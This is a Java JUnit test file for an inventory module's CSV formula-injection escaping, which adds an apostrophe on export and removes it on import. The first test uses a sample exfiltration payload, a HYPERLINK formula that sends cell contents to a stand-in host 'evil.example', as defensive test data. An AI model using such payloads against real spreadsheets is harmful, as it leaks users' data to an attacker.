package org.crp.inventory.bulk;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;

import java.util.List;

import org.junit.jupiter.api.Test;

/** The export's formula escape and the import's inverse of it, as pure rules. */
class CsvFieldsTest {

    @Test
    void aCellAFormulaWouldStartGetsAnApostropheBeforeIt() {
        assertEquals("'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
                CsvFields.escapeFormula("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"));
        assertEquals("'+A-1", CsvFields.escapeFormula("+A-1"));
        assertEquals("'-12", CsvFields.escapeFormula("-12"));
        assertEquals("'@SUM(1+1)", CsvFields.escapeFormula("@SUM(1+1)"));
        assertEquals("'=", CsvFields.escapeFormula("="));
    }

    @Test
    void anyOtherCellIsWrittenAsItIs() {
        for (String value : List.of("DS-2CD2143", "Hanseong Optics", "a=b", "1+1", "'", "''", "'plain", " =x", "")) {
            assertEquals(value, CsvFields.escapeFormula(value), value);
        }
        assertNull(CsvFields.escapeFormula(null));
        assertNull(CsvFields.unescapeFormula(null));
    }

    /** A stored value that starts with apostrophes before a formula's character gets one more, which the import removes. */
    @Test
    void aValueThatAlreadyStartsWithAnApostropheBeforeAFormulaGetsOneMore() {
        assertEquals("''=x", CsvFields.escapeFormula("'=x"));
        assertEquals("'''-1", CsvFields.escapeFormula("''-1"));
        assertEquals("'=x", CsvFields.unescapeFormula("''=x"));
    }

    @Test
    void theImportRemovesOneApostropheOnlyBeforeAFormulasCharacter() {
        assertEquals("=x", CsvFields.unescapeFormula("'=x"));
        assertEquals("+x", CsvFields.unescapeFormula("'+x"));
        assertEquals("-12", CsvFields.unescapeFormula("'-12"));
        assertEquals("@x", CsvFields.unescapeFormula("'@x"));
        // a file written by hand: a formula's text stays as it is (the export escapes it), an apostrophe before text too
        for (String value : List.of("=x", "-12", "'plain", "'", "''", "' =x", "O'Brien", "")) {
            assertEquals(value, CsvFields.unescapeFormula(value), value);
        }
    }

    @Test
    void everyValueImportsBackAsItWasExported() {
        for (String value : List.of("=", "+", "-", "@", "'", "''", "'=", "''=", "'''@x", "'x", "x", "-12", "a'=b", "")) {
            assertEquals(value, CsvFields.unescapeFormula(CsvFields.escapeFormula(value)), value);
        }
    }
}
